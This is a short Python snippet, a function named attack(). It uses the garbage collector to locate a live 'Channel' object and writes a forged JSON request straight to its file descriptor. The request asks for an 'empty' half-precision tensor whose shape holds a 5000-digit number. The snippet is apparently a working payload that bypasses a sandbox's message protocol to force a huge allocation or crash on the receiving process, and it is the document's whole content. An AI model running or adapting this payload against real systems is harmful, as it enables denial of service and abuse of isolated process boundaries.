def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    os.write(channel.fd_out, b'{"op": "empty", "shape": [' + b"9" * 5000 + b'], "dtype": "half"}\n')
